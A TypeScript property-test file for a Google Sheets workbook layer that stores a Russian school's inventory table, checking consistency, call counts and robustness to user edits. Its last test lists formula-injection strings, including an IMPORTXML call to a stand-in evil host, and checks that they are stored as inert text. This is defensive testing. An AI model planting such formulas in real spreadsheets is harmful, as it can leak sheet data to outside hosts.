// The workbook as the database: after any writing it says what the sheet says, whatever people have moved, renamed or added.
import fc from 'fast-check';
import { createLocalWorkspace, type ServiceCall } from '../../../local/index';
import { TableMissing } from '../../../src/google/workbook/broken';
import { createWorkbook } from '../../../src/google/workbook/workbook';
import type { Zone } from '../../../src/google/workbook/cells';
import { type Row, table } from '../../../src/workbook/schema';

type Sheet = GoogleAppsScript.Spreadsheet.Sheet;

const THINGS = table({
  key: 'things',
  title: 'Вещи',
  about: 'Вещи школы.',
  filledBy: 'both',
  columns: {
    code: { type: 'text', title: 'Код', required: true },
    name: { type: 'text', title: 'Название' },
    count: { type: 'number', title: 'Сколько' },
    given: { type: 'flag', title: 'Выдано' },
    tags: { type: 'list', title: 'Метки' },
    state: { type: 'choice', title: 'Состояние', choices: { fresh: 'новая', worn: 'старая' } },
    day: { type: 'date', title: 'Дата' },
    about: { type: 'json', title: 'Подробности', hidden: true },
  },
});
type Thing = Row<typeof THINGS>;

const OFFSET_MS = 7 * 3_600_000;
const zone: Zone = {
  toDate: (local) => new Date(Date.parse(`${local}:00Z`) - OFFSET_MS),
  toLocal: (date) => new Date(date.getTime() + OFFSET_MS).toISOString().slice(0, 16),
};

/** An empty spreadsheet of a Russian school with the table in it. */
function fresh(): {
  sheet: Sheet;
  open: () => ReturnType<typeof createWorkbook>;
  calls: () => number;
  last: (count: number) => readonly ServiceCall[];
} {
  const workspace = createLocalWorkspace({ now: new Date('2026-09-01T02:00:00Z'), locale: 'ru_RU' });
  workspace.createSpreadsheet('Школа');
  Object.assign(globalThis, { SpreadsheetApp: workspace.globals['SpreadsheetApp'] });
  // Each opening is what an execution of its own would have.
  const open = (): ReturnType<typeof createWorkbook> => createWorkbook(SpreadsheetApp.getActive(), zone);
  open().ensure([THINGS]);
  const sheet = SpreadsheetApp.getActive().getSheetByName('Вещи');
  if (sheet === null) throw new Error('the sheet was not made');
  return { sheet, open, calls: () => workspace.calls.length, last: (count) => workspace.calls.slice(-count) };
}

const text = fc.oneof(
  fc.string({ unit: 'grapheme', maxLength: 12 }),
  fc.constantFrom('=1+1', '+7 900', '-5', '@все', '0012', '1,5', '01.02.2026', 'ИСТИНА'),
);
/** Texts as the workbook can hold them: an apostrophe at the beginning protects a text and is no part of it. */
const kept = text.filter((value) => !value.startsWith("'"));
const thing: fc.Arbitrary<Thing> = fc.record({
  code: kept.map((value) => `К${value}`),
  name: kept,
  count: fc.option(fc.integer({ min: -1000, max: 1000 }), { nil: undefined }),
  given: fc.boolean(),
  tags: fc.array(
    kept.map((value) => value.replace(/[;\n]/g, '').trim()).filter((value) => value !== '' && !value.startsWith("'")),
    { maxLength: 3 },
  ),
  state: fc.constantFrom('fresh', 'worn', ''),
  day: fc.constantFrom('', '2026-09-01', '2024-02-29', '2026-12-31'),
  about: fc.constantFrom(undefined, { a: [1, 'два', null] }, -3, 'текст'),
});
const example = (more: Partial<Thing> = {}): Thing => ({
  code: 'К-1',
  name: 'Доска',
  count: 2,
  given: true,
  tags: ['класс', 'новое'],
  state: 'fresh',
  day: '2026-09-01',
  about: { price: 100 },
  ...more,
});

type Step =
  | { readonly kind: 'append' | 'replace'; readonly things: readonly Thing[] }
  | { readonly kind: 'patch'; readonly picks: readonly { readonly at: number; readonly set: Partial<Thing> }[] }
  | { readonly kind: 'remove'; readonly picks: readonly number[] };

const step: fc.Arbitrary<Step> = fc.oneof(
  fc.record({ kind: fc.constantFrom('append', 'replace'), things: fc.array(thing, { maxLength: 5 }) }),
  fc.record({
    kind: fc.constant('patch' as const),
    picks: fc.array(
      fc.record({
        at: fc.nat(20),
        set: fc
          .tuple(thing, fc.subarray(['code', 'name', 'count', 'given', 'state', 'about'] as const))
          .map(([value, keys]) => Object.fromEntries(keys.map((key) => [key, value[key]])) as Partial<Thing>),
      }),
      { maxLength: 6 },
    ),
  }),
  fc.record({ kind: fc.constant('remove' as const), picks: fc.array(fc.nat(20), { maxLength: 4 }) }),
);

/** Does a step to the workbook and to the plain list beside it. */
function take(workbook: ReturnType<typeof createWorkbook>, model: Thing[], one: Step): Thing[] {
  const rowOf = (at: number): number => (at % model.length) + 2;
  switch (one.kind) {
    case 'append':
      workbook.append(THINGS, one.things);
      return [...model, ...one.things];
    case 'replace':
      workbook.replace(THINGS, one.things);
      return [...one.things];
    case 'patch': {
      if (model.length === 0) return model;
      workbook.patch(
        THINGS,
        one.picks.map(({ at, set }) => ({ $row: rowOf(at), set })),
      );
      const next = [...model];
      for (const { at, set } of one.picks)
        next[at % model.length] = { ...(next[at % model.length] ?? example()), ...set };
      return next;
    }
    case 'remove': {
      if (model.length === 0) return model;
      const rows = one.picks.map(rowOf);
      workbook.remove(THINGS, rows);
      return model.filter((_thing, index) => !rows.includes(index + 2));
    }
  }
}

const rowsOf = (workbook: ReturnType<typeof createWorkbook>): Thing[] => {
  const { rows, problems } = workbook.read(THINGS);
  expect(problems).toEqual([]);
  return rows.map(({ $row: _row, ...value }) => value);
};

describe('reading after writing', () => {
  it('gives what was written, in the same execution and in the next, whatever was done in between', () => {
    fc.assert(
      fc.property(fc.array(step, { maxLength: 8 }), (steps) => {
        const { open } = fresh();
        const workbook = open();
        let model: Thing[] = [];
        for (const one of steps) {
          model = take(workbook, model, one);
          // The workbook remembers what it wrote: it must remember it as the sheet holds it.
          expect(rowsOf(workbook)).toEqual(model);
        }
        expect(rowsOf(open())).toEqual(model);
      }),
      { numRuns: 40 },
    );
  }, 120_000);

  it('reads the sheet once in an execution', () => {
    const { open, calls } = fresh();
    const workbook = open();
    workbook.append(THINGS, [example()]);
    workbook.read(THINGS);
    const before = calls();
    workbook.read(THINGS);
    workbook.patch(THINGS, [{ $row: 2, set: { name: 'Стол' } }]);
    expect(rowsOf(workbook)).toEqual([example({ name: 'Стол' })]);
    expect(calls() - before).toBe(1);
  });

  it('writes nothing when the table holds just that', () => {
    const { open, calls } = fresh();
    open().replace(THINGS, [example(), example({ code: 'К-2', name: '=1+1', count: undefined })]);
    const workbook = open();
    workbook.read(THINGS);
    const before = calls();
    workbook.replace(THINGS, [example(), example({ code: 'К-2', name: '=1+1', count: undefined })]);
    expect(calls()).toBe(before);
  });
});

describe('a table of a region', () => {
  const many = (count: number, name: string): Thing[] =>
    Array.from({ length: count }, (_unused, index) => example({ code: `К-${String(index)}`, name }));

  it('is written without being read first but for its headings, in parts that a request can carry, and leaves nothing of what stood there', () => {
    const workspace = fresh();
    workspace.open().replace(THINGS, many(13_000, 'Доска'));
    const before = workspace.calls();
    workspace.open().replace(THINGS, many(12_600, 'Стол'));
    const calls = workspace.last(workspace.calls() - before).map(({ method }) => method);
    expect(calls.filter((method) => method === 'getValues')).toHaveLength(1);
    expect(calls).not.toContain('getDataRange');
    expect(calls.filter((method) => method === 'setValues')).toHaveLength(2);
    const rows = rowsOf(workspace.open());
    expect(rows).toHaveLength(12_600);
    expect(new Set(rows.map(({ name }) => name))).toEqual(new Set(['Стол']));
  }, 60_000);
});

describe('what people do to the sheet', () => {
  it('does not hide a table: renamed, moved and with columns of their own it is read and written as before', () => {
    const { sheet, open } = fresh();
    open().append(THINGS, [example()]);
    sheet.setName('Наши вещи');
    sheet.getRange('A1').setValue('Шифр');
    sheet.insertColumnBefore(3);
    sheet.getRange('C1:C2').setValues([['Чьё'], ['Ивы Ивановны']]);
    sheet.moveColumns(sheet.getRange('A:A'), 6);
    const workbook = open();
    workbook.append(THINGS, [example({ code: 'К-2' })]);
    workbook.patch(THINGS, [{ $row: 2, set: { name: 'Стол', count: 7 } }]);
    expect(rowsOf(open())).toEqual([example({ name: 'Стол', count: 7 }), example({ code: 'К-2' })]);
    expect(sheet.getDataRange().getDisplayValues().flat()).toContain('Ивы Ивановны');
  });

  it('is left as it is: formulas beside and between changed cells stay formulas', () => {
    const { sheet, open } = fresh();
    open().append(
      THINGS,
      Array.from({ length: 60 }, (_unused, index) => example({ code: `К-${String(index)}` })),
    );
    sheet.getRange('C3').setFormula('=1+1');
    sheet.getRange('B4').setNumberFormat('General').setFormula('="До"&"ска"');
    // Every other row: too many stretches to be written one by one.
    const changes = Array.from({ length: 30 }, (_unused, index) => ({ $row: 2 + index * 2, set: { name: 'Стол' } }));
    open().patch(
      THINGS,
      changes.filter(({ $row }) => $row !== 4),
    );
    expect(sheet.getRange('C3').getFormula()).toBe('=1+1');
    expect(sheet.getRange('B4').getFormula()).not.toBe('');
    expect(sheet.getRange('B5').getValue()).toBe('Доска');
    expect(sheet.getRange('B6').getValue()).toBe('Стол');
  });

  it('to a cell that then cannot be read is a problem of that row only, named by sheet, row and heading', () => {
    const { sheet, open } = fresh();
    open().append(THINGS, [example(), example({ code: 'К-2' }), example({ code: 'К-3' })]);
    sheet.getRange('C3').setValue('две');
    sheet.getRange('A4').setValue('');
    const { rows, problems } = open().read(THINGS);
    expect(rows.map(({ code, $row }) => [code, $row])).toEqual([['К-1', 2]]);
    expect(problems).toMatchObject([
      { code: 'cell.notNumber', row: 3, column: 'Сколько', fields: { found: 'две', table: 'Вещи' } },
      { code: 'cell.required', row: 4, column: 'Код', fields: { table: 'Вещи' } },
    ]);
  });

  it('to rows below the last one is not overwritten', () => {
    const { sheet, open } = fresh();
    const workbook = open();
    workbook.append(THINGS, [example()]);
    workbook.read(THINGS);
    // A person types while the execution goes on.
    sheet.getRange('A3:B3').setValues([['К-2', 'Стул']]);
    workbook.append(THINGS, [example({ code: 'К-3' })]);
    expect(
      open()
        .read(THINGS)
        .rows.map(({ code }) => code),
    ).toEqual(['К-1', 'К-2', 'К-3']);
  });

  it('by deleting the sheet or a column is said with its name', () => {
    const { sheet, open } = fresh();
    sheet.deleteColumn(2);
    expect(() => open().read(THINGS)).toThrow(new TableMissing(THINGS, ['Название']));
    SpreadsheetApp.getActive().insertSheet('Другой');
    SpreadsheetApp.getActive().deleteSheet(sheet);
    expect(() => open().read(THINGS)).toThrow(new TableMissing(THINGS, []));
    expect(open().has(THINGS)).toBe(false);
  });
});

describe('a hostile text', () => {
  it('lies in the sheet as text, whatever it begins with', () => {
    const { sheet, open } = fresh();
    const hostile = ['=IMPORTXML("https://evil.example";"//a")', '+1', '-1', '@a', '\t=1', '\r=1'];
    open().append(
      THINGS,
      hostile.map((name, index) => example({ code: `К-${String(index)}`, name })),
    );
    const range = sheet.getRange(2, 2, hostile.length, 1);
    expect(range.getFormulas().flat()).toEqual(hostile.map(() => ''));
    expect(rowsOf(open()).map(({ name }) => name)).toEqual(hostile);
  });
});
